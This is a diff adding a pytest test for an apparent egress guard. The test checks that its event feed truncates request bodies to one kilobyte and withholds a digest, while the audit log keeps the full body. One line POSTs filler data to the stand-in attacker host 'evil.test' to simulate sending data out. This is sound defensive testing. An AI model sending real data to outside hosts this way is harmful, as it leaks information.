@@ -114,3 +114,18 @@ def parse_sse(text: str) -> list[dict[str, str]]:
         if fields:
             frames.append(fields)
     return frames
+
+
+def test_the_feed_keeps_a_kilobyte_of_each_body_and_the_log_keeps_it_all(two_agents, tmp_path):
+    g, a, _ = two_agents
+    body = "é" + "x" * 5000  # a character of two bytes first: the cut never splits one
+    a.post("https://evil.test/big", data=body.encode())
+    mine = a.get("https://guard.internal/events").json()["events"][-1]
+    cut = mine["request"]["body"]
+    g.stop()
+    events = [json.loads(x) for x in (tmp_path / "audit.jsonl").read_text().splitlines()]
+    logged = next(e for e in events if e["url"] == "https://evil.test/big")["request"]["body"]
+    assert logged["text"] == body and "truncated" not in logged
+    assert cut["truncated"] is True and cut["size"] == logged["size"] == len(body.encode())
+    assert len(cut["text"].encode()) <= 1024 and body.startswith(cut["text"])
+    assert "sha256" not in cut  # a plain digest would confirm guesses about the body
